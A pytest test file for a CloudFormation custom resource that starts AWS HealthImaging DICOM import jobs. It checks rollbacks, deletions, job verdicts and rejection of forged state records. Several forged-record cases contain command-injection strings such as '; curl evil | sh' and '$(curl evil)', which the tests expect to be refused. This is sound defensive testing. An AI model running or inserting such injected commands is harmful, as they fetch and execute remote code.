"""What a hostile reader found, each kind by its shortest sequence."""

from __future__ import annotations

import json
from typing import Any

import pytest

from healthimaging_import.contract import ImportAttribute
from tests.model import fakes
from tests.model.fakes import PATIENT, S3, SOURCE, HealthImaging, Misfortune, Plans, World
from tests.model.runs import Request, Stage, filled, properties, verdicts

RECORDS = "out/.healthimaging-cdk/"
UNKNOWN_JOB = {"jobId": "f" * 32, "submittedAt": "2027-01-15T08:00:00+00:00"}


def update(stage: Stage, new: dict[str, Any], old: dict[str, Any]) -> Request:
    stage.world.stack_status = "UPDATE_IN_PROGRESS"
    return stage.request("Update", new, old)


def deployed(stage: Stage, **changes: Any) -> Request:
    request = stage.request("Create", properties(**changes))
    stage.settle()
    return request


def summary(request: Request) -> str:
    return str(request.answers[0]["Data"]["Summary"])


# -- starts ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("status", ["ROLLBACK_IN_PROGRESS", "DELETE_IN_PROGRESS"])
@pytest.mark.parametrize("slow", range(3))  # the claim, the note of the run, the lease
def test_no_job_is_started_after_a_deletion_said_that_there_is_none(world, stage, monkeypatch, status, slow):
    put, puts, deletion = S3.put_object, [], []

    def slowly(self: S3, **what: Any) -> Any:
        puts.append(what["Key"])
        if len(puts) == slow + 1:
            world.stack_status = status
            deletion.append(stage.request("Delete", properties()))
            stage.pass_time(70)
            assert "SUCCESS" == deletion[0].status
            assert {} == world.jobs
        return put(self, **what)

    monkeypatch.setattr(S3, "put_object", slowly)
    stage.request("Create", properties())
    stage.settle()
    assert deletion
    assert {} == world.jobs


def test_a_start_that_was_refused_for_certain_is_not_looked_for(world, stage):
    world.misfortunes = [Misfortune("StartDICOMImportJob", "error", "ThrottlingException", times=3)]
    request = stage.request("Create", properties())
    stage.settle()
    assert "SUCCESS" == request.status
    assert 0 == world.calls.count("ListDICOMImportJobs")


@pytest.mark.parametrize(
    "other",
    [{"OutputPrefix": "out2/"}, {"MetadataMappings": [{"studyInstanceUID": "1.2", "metadataFilePath": "m.json"}]}],
)
def test_a_job_of_another_import_is_never_taken_for_ones_own(world, stage, other):
    """Same source, same role, the same output or one that begins alike: a lost start finds its own job or none."""
    world.plans = Plans(seconds=100)
    world.misfortunes = [Misfortune("StartDICOMImportJob", "unreachable", times=2)]
    mine = stage.request("Create", properties())
    stage.pass_time(2)
    assert {} == world.jobs
    mark = world.stack_updated
    theirs = stage.request("Create", properties(**other), stack=2)
    world.stack_updated = mark
    stage.settle()
    told = {one.answers[0]["Data"]["JobId"] for one in (mine, theirs)}
    assert 2 == len(told) == len(world.jobs)


@pytest.mark.parametrize("operation", ["GetDICOMImportJob", "ListDICOMImportJobs"])
def test_a_start_of_unknown_fate_is_not_repeated_where_jobs_may_not_be_read(world, stage, operation):
    world.token_memory = 0
    world.misfortunes = [
        Misfortune("PutObject", "error", "InvalidAccessKeyId", skip=3),
        Misfortune(operation, "error", "AccessDeniedException", times=10_000),
    ]
    request = stage.request("Create", properties())
    stage.settle()
    assert 1 == len(world.jobs)
    assert "FAILED" == request.status
    assert ["UNKNOWN"] == verdicts(world)


@pytest.mark.parametrize("completion", ["submit", "detach"])
def test_a_plain_deploy_means_the_run_whose_job_still_runs(world, stage, completion):
    world.plans = Plans(seconds=1000)
    first = properties(RunId="1", Completion=completion, WaitSeconds="60")
    stage.request("Create", first)
    stage.pass_time(120)
    update(stage, properties(RunId=None, Completion=completion, WaitSeconds="60"), first)
    stage.settle()
    assert 1 == len(world.jobs)


def test_going_back_to_an_earlier_source_imports_it_again(world, stage):
    filled(world, prefix=f"other/{PATIENT}/", files=2)
    one, other = properties(), properties(InputPrefix=f"other/{PATIENT}/")
    deployed(stage)
    update(stage, other, one)
    stage.settle()
    back = update(stage, one, other)
    stage.settle()
    assert 3 == len(world.jobs)
    assert list(world.jobs)[-1] == back.answers[0]["Data"]["JobId"]
    again = update(stage, properties(JobName="another"), one)
    stage.settle()
    assert back.answers[0]["Data"]["JobId"] == again.answers[0]["Data"]["JobId"]


def test_going_back_in_a_rollback_imports_nothing(world, stage):
    filled(world, prefix=f"other/{PATIENT}/", files=2)
    one, other = properties(), properties(InputPrefix=f"other/{PATIENT}/")
    first = deployed(stage)
    update(stage, other, one)
    stage.settle()
    world.stack_status = "UPDATE_ROLLBACK_IN_PROGRESS"
    back = stage.request("Rollback", one, other)
    stage.settle()
    assert 2 == len(world.jobs)
    assert first.answers[0]["Data"]["JobId"] == back.answers[0]["Data"]["JobId"]


@pytest.mark.parametrize("change", [{"JobName": "another"}, {"MaxRejectedFiles": "3"}])
def test_an_update_of_the_same_meaning_starts_nothing_though_all_results_are_gone(world, stage, change):
    deployed(stage)
    for place in [place for place in world.objects if place[0] == fakes.RESULTS]:
        del world.objects[place]
    request = update(stage, properties(**change), properties())
    stage.settle()
    assert "SUCCESS" == request.status
    assert 1 == len(world.jobs)
    assert "nothing was imported again" in summary(request)


def test_a_token_whose_record_is_gone_brings_no_earlier_job_back(world, stage):
    """A, then B, then every record is removed, then A: the job of the first A is no answer."""
    filled(world, prefix=f"other/{PATIENT}/", files=2)
    one, other = properties(), properties(InputPrefix=f"other/{PATIENT}/")
    deployed(stage)
    update(stage, other, one)
    stage.settle()
    for place in [place for place in world.objects if place[0] == fakes.RESULTS]:
        del world.objects[place]
    world.now += 3600
    back = update(stage, one, other)
    stage.settle()
    assert 3 == len(world.jobs)
    assert list(world.jobs)[-1] == back.answers[0]["Data"]["JobId"]


# -- verdicts and responses ------------------------------------------------------------------------------------------


def test_a_job_has_one_verdict_whoever_judges_it(world, stage, monkeypatch):
    world.plans = Plans(seconds=400, outcome="some")
    strict = stage.request("Create", properties(MaxRejectedFiles="0"))
    stage.pass_time(330)
    assert "FAILED" == strict.status
    look, later = HealthImaging.get_dicom_import_job, []

    def while_it_looks(self: HealthImaging, **what: Any) -> Any:
        if world.jobs[what["jobId"]].over and not later:
            tolerant = properties(MaxRejectedFiles="9", WaitSeconds="3000")
            later.append(update(stage, tolerant, properties(MaxRejectedFiles="0")))
            stage.pass_time(5)
        return look(self, **what)

    monkeypatch.setattr(HealthImaging, "get_dicom_import_job", while_it_looks)
    stage.settle()
    assert "SUCCESS" == later[0].status
    assert ["SUCCEEDED"] == verdicts(world)


@pytest.mark.parametrize(
    ("code", "times"), [("KMS.DisabledException", 1), ("InvalidAccessKeyId", 1), ("SlowDown", 999)]
)
def test_a_job_whose_record_cannot_be_read_for_a_while_has_a_verdict(world, stage, code, times):
    world.plans = Plans(seconds=100)
    world.misfortunes = [
        Misfortune("PutObject", "crash before", skip=3),
        Misfortune("GetObject", "error", code, skip=5, times=times),
    ]
    stage.request("Create", properties())
    stage.pass_time(500)
    world.misfortunes = []
    stage.settle()
    assert 1 == len(world.jobs)
    assert ["SUCCEEDED"] == verdicts(world)


def test_the_job_of_an_update_that_lost_its_step_and_is_rolled_back_has_a_verdict(world, stage):
    deployed(stage)
    world.plans = Plans(seconds=100)
    world.misfortunes = [Misfortune("PutObject", "crash before", skip=3)]
    update(stage, properties(RunId="1"), properties())
    stage.pass_time(1)
    assert 2 == len(world.jobs)
    world.stack_status = "UPDATE_ROLLBACK_IN_PROGRESS"
    stage.request("Rollback", properties(), properties(RunId="1"))
    stage.settle()
    assert 2 == len(verdicts(world))


def test_a_job_is_polled_though_cloudformation_cannot_be_reached(world, stage):
    world.plans = Plans(seconds=400)
    world.misfortunes = [Misfortune("Answer", "unreachable", times=1000)]
    request = stage.request("Create", properties())
    stage.settle()
    assert [] == request.answers
    assert ["SUCCEEDED"] == verdicts(world)


@pytest.mark.parametrize("strict", ["false", "true"])
def test_a_folder_of_warnings_that_is_named_and_empty_holds_none(stage, monkeypatch, strict):
    write = World._write_result

    def named(self: World, job: Any, name: str, lines: list[Any]) -> None:
        if name == "job-output-manifest.json":
            lines[0]["jobSummary"]["warningsOutputS3Uri"] = f"{job.folder}WARNING/"
        write(self, job, name, lines)

    monkeypatch.setattr(World, "_write_result", named)
    request = deployed(stage, FailOnWarnings=strict)
    assert "SUCCESS" == request.status
    assert "none" == request.answers[0]["Data"]["Warnings"]


def test_a_rollback_waits_for_the_job_of_what_it_undoes(world, stage):
    """The rights of that job go with the rollback."""
    deployed(stage)
    world.plans = Plans(seconds=200)
    other = properties(RunId="1", WaitSeconds="60")
    update(stage, other, properties())
    stage.pass_time(90)
    world.stack_status = "UPDATE_ROLLBACK_IN_PROGRESS"
    back = stage.request("Rollback", properties(), other)
    stage.pass_time(80)
    assert [] == back.answers
    stage.settle()
    assert "SUCCESS" == back.status
    assert ["SUCCEEDED", "SUCCEEDED"] == verdicts(world)


@pytest.mark.parametrize("seconds", [250, 4000])
def test_the_deletion_of_an_old_id_waits_for_its_job_and_no_longer_than_it_may(world, stage, seconds):
    """It leaves the record to whoever polls the job."""
    world.plans = Plans(seconds=seconds)
    old, new = properties(Completion="submit"), properties(Completion="submit", InputPrefix=f"other/{PATIENT}/")
    filled(world, prefix=f"other/{PATIENT}/", files=2)
    stage.request("Create", old)
    stage.pass_time(10)
    world.plans = Plans(seconds=5)
    update(stage, new, old)
    stage.pass_time(100)
    world.stack_status = "UPDATE_COMPLETE_CLEANUP_IN_PROGRESS"
    deletion = stage.request("Cleanup", old, physical_id="Import-old")
    stage.pass_time(60)
    assert [] == deletion.answers
    stage.settle()
    assert "SUCCESS" == deletion.status
    assert ["SUCCEEDED", "SUCCEEDED"] == verdicts(world)
    assert max(one.at for one in stage.requests.values()) == deletion.at


def test_the_deletion_of_an_old_id_waits_for_the_job_of_its_own_run(world, stage):
    """A plain submit, then run 2 with other rights: the old id means the first job, not the last one."""
    world.plans = Plans(seconds=200)
    old = properties(RunId=None, Completion="submit")
    first = stage.request("Create", old)
    stage.pass_time(10)
    world.plans = Plans(seconds=2000)
    update(stage, properties(RunId="2", Completion="submit", Grants="other"), old)
    stage.pass_time(10)
    world.stack_status = "UPDATE_COMPLETE_CLEANUP_IN_PROGRESS"
    deletion = stage.request("Cleanup", old, physical_id=first.answers[0]["PhysicalResourceId"])
    stage.pass_time(150)
    assert [] == deletion.answers
    stage.settle()
    assert first.answers[0]["Data"]["JobId"] == deletion.answers[0]["Data"]["JobId"]
    assert ["SUCCEEDED", "SUCCEEDED"] == verdicts(world)


def test_a_plain_deploy_after_a_run_that_failed_imports_nothing(world, stage):
    deployed(stage, RunId="1")
    world.plans = Plans(outcome="none")
    update(stage, properties(RunId="2", Completion="submit"), properties(RunId="1"))
    stage.settle()
    plain = update(stage, properties(RunId=None), properties(RunId="2", Completion="submit"))
    stage.settle()
    assert 2 == len(world.jobs)
    assert next(iter(world.jobs)) == plain.answers[0]["Data"]["JobId"]


def test_going_back_to_an_earlier_output_imports_again(world, stage):
    """What was started into the store meanwhile is noted in the other output."""
    one, other = properties(), properties(OutputPrefix="other/")
    deployed(stage)
    update(stage, other, one)
    stage.settle()
    update(stage, one, other)
    stage.settle()
    assert 3 == len(world.jobs)


@pytest.mark.parametrize("change", [{"RunId": "1"}, {"InputPrefix": f"other/{PATIENT}/"}])
def test_a_deletion_waits_for_the_job_of_an_update_that_was_rolled_back(world, stage, change):
    filled(world, prefix=f"other/{PATIENT}/", files=2)
    first = deployed(stage)
    world.plans = Plans(seconds=900)
    new = properties(**change)
    update(stage, new, properties())
    stage.pass_time(310)
    world.stack_status = "UPDATE_ROLLBACK_IN_PROGRESS"
    stage.request("Rollback", properties(), new)
    stage.pass_time(310)
    world.stack_status = "DELETE_IN_PROGRESS"
    deletion = stage.request("Delete", properties(), physical_id=first.answers[0]["PhysicalResourceId"])
    stage.pass_time(150)
    assert [] == deletion.answers
    stage.settle()
    assert "SUCCESS" == deletion.status
    assert ["SUCCEEDED", "SUCCEEDED"] == verdicts(world)


def test_a_clean_up_leaves_a_job_to_the_deploy_that_has_taken_it_over(world, stage):
    """Only rights changed: the same job, whose old id is deleted, is judged by the new deploy's rules."""
    world.plans = Plans(seconds=500, outcome="some")
    old = properties(Completion="submit", MaxRejectedFiles="0")
    first = stage.request("Create", old)
    stage.pass_time(10)
    update(stage, properties(Completion="submit", MaxRejectedFiles="9", Grants="other"), old)
    stage.pass_time(10)
    world.stack_status = "UPDATE_COMPLETE_CLEANUP_IN_PROGRESS"
    stage.request("Cleanup", old, physical_id=first.answers[0]["PhysicalResourceId"])
    stage.settle()
    assert ["SUCCEEDED"] == verdicts(world)


@pytest.mark.parametrize("completion", ["submit", "detach"])
def test_a_plain_deploy_after_a_first_run_that_failed_imports(world, stage, completion):
    world.plans = Plans(outcome="none", seconds=70)
    first = properties(RunId="1", Completion=completion, WaitSeconds="60")
    stage.request("Create", first)
    stage.settle()
    world.plans = Plans()
    plain = update(stage, properties(RunId=None), first)
    stage.settle()
    assert "COMPLETED" == plain.answers[0]["Data"]["JobStatus"]
    assert 2 == len(world.jobs)


def test_a_deploy_that_detaches_ends_well_though_the_record_cannot_be_read_at_its_deadline(world, stage):
    world.plans = Plans(seconds=900)
    request = stage.request("Create", properties(Completion="detach"))
    stage.pass_time(290)
    world.misfortunes = [Misfortune("GetObject", "error", "SlowDown", times=3)]
    stage.settle()
    assert "SUCCESS" == request.status
    assert ["SUCCEEDED"] == verdicts(world)


# -- boundaries ------------------------------------------------------------------------------------------------------


def forge(world: World, **changes: Any) -> None:
    """Write over the one record, as somebody else might."""
    (place,) = (it for it in world.objects if it[1].startswith(RECORDS) and len(it[1]) == len(RECORDS) + 69)
    world.objects[place] = json.dumps({**json.loads(world.objects[place]), **changes}).encode()


def test_what_a_forged_claim_asks_for_is_not_sent(world, stage):
    world.misfortunes = [Misfortune("StartDICOMImportJob", "error", "ThrottlingException", times=10_000)]
    stage.request("Create", properties())
    stage.pass_time(30)
    forge(world, parameters={"datastoreId": "x", "inputS3Uri": f"s3://{SOURCE}/stolen/", "jobName": "x"})
    world.misfortunes.clear()
    stage.settle()
    assert {f"s3://{SOURCE}/in/{PATIENT}/"} == {job.parameters["inputS3Uri"] for job in world.jobs.values()}


@pytest.mark.parametrize(
    ("forged", "reason"),
    [
        ({"job": {"jobId": "f" * 32, "submittedAt": "2027-01-15T08:00:00+00:00"}}, "is damaged"),
        (
            {"job": UNKNOWN_JOB, "result": {"job_id": "f" * 32, "job_status": "COMPLETED", "counts": {"imported": 3}}},
            "does not know",
        ),
        ({"result": {"counts": {"warnings": {"$(curl evil)": 1}}}}, "is damaged"),
        ({"result": {"job_status": "; curl evil | sh"}}, "is damaged"),
        ({"claimed_at": 1e300}, "is damaged"),
        ({"owner_began_at": 1e300}, "is damaged"),
        ({"lease_until": 1e300}, "is damaged"),
        ({"job": {"jobId": "x; curl evil | sh", "submittedAt": "2027-01-15T08:00:00+00:00"}}, "is damaged"),
        ({"intent": "0" * 64}, "is damaged"),
        ({"published": "yes"}, "is damaged"),
    ],
)
def test_a_forged_success_is_not_believed(world, stage, forged, reason):
    deployed(stage)
    forge(world, **forged)
    request = update(stage, properties(JobName="another"), properties())
    stage.settle()
    assert "FAILED" == request.status
    assert reason in request.answers[0]["Reason"]
    assert 1 == len(world.jobs)


def test_a_forged_verdict_is_not_published(world, stage):
    deployed(stage)
    world.events.clear()
    result = {"job_id": "f" * 32, "job_status": "COMPLETED", "counts": {"imported": 3}}
    forge(world, published=False, job=UNKNOWN_JOB, result=result)
    request = update(stage, properties(JobName="another"), properties())
    stage.settle()
    assert "FAILED" == request.status
    assert "does not know" in request.answers[0]["Reason"]
    assert [] == world.events


def test_invented_counts_are_not_believed(world, stage):
    deployed(stage)
    (place,) = (it for it in world.objects if it[1].startswith(RECORDS) and len(it[1]) == len(RECORDS) + 69)
    result = json.loads(world.objects[place])["result"]
    forge(world, result={**result, "counts": {**result["counts"], "imported": 1_000_000}})
    request = update(stage, properties(JobName="another"), properties())
    stage.settle()
    assert "other numbers than its manifest" in request.answers[0]["Reason"]


# -- rollbacks -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("code", ["AccessDeniedException", "StateMachineDoesNotExist"])
def test_a_rollback_that_cannot_begin_has_all_attributes(world, stage, code):
    """CloudFormation fails a rollback whose response lacks an attribute that the template reads."""
    deployed(stage)
    world.stack_status = "UPDATE_ROLLBACK_IN_PROGRESS"
    world.misfortunes = [Misfortune("StartExecution", "error", code, times=999)]
    back = stage.request("Rollback", properties(), properties(RunId="1"))
    stage.settle()
    assert "SUCCESS" == back.status
    assert set(ImportAttribute) == set(back.answers[0]["Data"])
